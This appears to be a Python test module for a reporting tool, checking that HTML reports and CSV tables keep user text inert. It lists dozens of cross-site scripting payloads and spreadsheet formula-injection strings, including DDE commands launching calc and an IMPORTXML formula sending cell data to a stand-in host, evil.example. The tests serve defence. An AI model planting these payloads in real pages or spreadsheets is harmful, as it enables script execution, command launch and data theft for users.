"""Reports and tables for people: a cell stays text, in a browser and in a spreadsheet."""

import csv
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd

from benchmarks.promises.base import Outcome, Promise, Settings
from benchmarks.promises.made_forecast import forecast_report
from benchmarks.promises.made_report import poisoned, poisoned_new_items
from fusion.data import write_table
from fusion.report import (
    BacktestReport,
    render_backtest,
    render_forecast,
    render_item,
    render_new_items,
    render_report,
)

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</svg><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input type=submit>",
    "<object data=//evil.example></object>",
    "<details open ontoggle=alert(1)>",
    "<style>@import '//evil.example'</style>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "x` onmouseover=`alert(1)",
    "<!--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}<b>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}<i onclick=alert(1)>",
    "$\\mathbf{x}$ $unclosed_{ <u onclick=alert(1)>",
    "javascript:alert(1)",
    "<scr\0ipt>alert(1)</scr\0ipt>",
)
FORMULAS = (
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example")', "=@SUM(1)", "=-1"),
    *("+1+1", "+cmd|' /C calc'!A0", "-1+1", "-cmd|' /C calc'!A0", "@SUM(1+1)", "@A1"),
    *("\t=1+1", "\r=1+1", "\n=1+1", "\t+1", "\n@A1", "=", "==1", "+", "@", "-A12", "-2-3"),
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1", '=DDE("cmd";"/C calc";"1")'),
    *('=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "-1-1=0"),
)
NUMBERS = ("-1", "-0.5", "+3", "-1e5", "12", "0", "-12,5", "1.5")


class Finds(HTMLParser):
    """What a browser would find in a page: tags, attributes, addresses, texts."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.addresses: list[str | None] = []
        self.text: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keeps a tag."""
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        for name, value in attrs:
            if name in ("href", "src", "xlink:href", "action", "style"):
                self.addresses.append(value)

    def handle_data(self, data: str) -> None:
        """Keeps a text."""
        self.text.append(data)


LEAST = (20, 12, 80, 15, 25)
"""How often each of the pages shows a text that stands in every place."""


def broken_by(payload: str, harmless: tuple[Finds, ...]) -> str:
    """What the pages show that it must not, where everything in it is the payload."""
    for page, clean, least in zip(poisoned_pages(payload), harmless, LEAST, strict=True):
        if broken := _broken(payload, page, clean, least=least):
            return broken
    return ""


def poisoned_pages(payload: str) -> tuple[Finds, ...]:
    """What a browser would find in reports, in a page of new items and in one of an item."""
    forecast = forecast_report(word=payload)
    assert forecast.backtest is not None
    backtest = BacktestReport(payload, payload, forecast.backtest, table=payload)
    return (
        Finds(render_report(poisoned(payload))),
        Finds(render_new_items(poisoned_new_items(payload), title=payload)),
        Finds(render_forecast(replace(forecast, backtest=None))),
        Finds(render_item(forecast, forecast.pages[0])),
        Finds(render_backtest(backtest)),
    )


def _broken(payload: str, found: Finds, harmless: Finds, *, least: int) -> str:
    if found.tags != harmless.tags or found.attributes != harmless.attributes:
        more = (found.tags - harmless.tags) | (found.attributes - harmless.attributes)
        return f"tags or attributes came from a text: {more}"
    if any(re.match(r"\s*(javascript|vbscript|//)", address or "") for address in found.addresses):
        return "an address came from a text"
    told = sum(payload.replace("\0", "") in text.replace("\0", "") for text in found.text)
    return "" if told >= least else f"the text is shown {told} times"


def written_cells(folder: Path, cells: list[str]) -> list[list[str]]:
    """Id and note of each row as a spreadsheet reads them."""
    frame = pd.DataFrame({"id": cells, "note": cells, "units": [-1.5] * len(cells)})
    write_table(frame, folder / "table.csv", formula_safe=["note"])
    with (folder / "table.csv").open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))[1:]


def run(settings: Settings) -> Outcome:
    """Payloads in every place of a report, and formulas in a table."""
    outcome = Outcome()
    harmless = poisoned_pages("plain")
    for payload in settings.some(PAYLOADS):
        outcome.case(f"report, {payload[:40]!r}", broken_by(payload, harmless))
    cells = [*settings.some(FORMULAS), *NUMBERS]
    for cell, (name, note, units) in zip(cells, written_cells(settings.folder, cells), strict=True):
        wanted = cell if cell in NUMBERS else f"'{cell}"
        outcome.case(f"note {cell!r}", "" if note == wanted else f"is written as {note!r}")
        outcome.case(f"id {cell!r}", "" if name == cell else f"is written as {name!r}")
        outcome.case(f"units beside {cell!r}", "" if units == "-1.5" else f"are {units!r}")
    outcome.detail.append("ids are exempt: they must join back")
    return outcome


PROMISE = Promise("reports and tables: 30 scripts and 25 formulas stay text", run)
